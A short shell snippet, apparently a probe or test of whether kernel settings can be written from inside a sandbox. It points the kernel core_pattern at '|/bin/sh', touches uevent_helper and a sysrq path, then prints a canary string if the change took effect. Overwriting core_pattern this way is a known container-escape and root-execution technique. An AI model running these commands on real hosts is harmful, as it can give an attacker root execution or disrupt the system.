echo "|/bin/sh" > /proc/sys/kernel/core_pattern
echo x > /proc/sysrq-trigger.no
echo 1 > /sys/kernel/uevent_helper
cat /proc/sys/kernel/core_pattern > cp
grep '^|/bin/sh' cp && echo "TOP SECRET kernel"
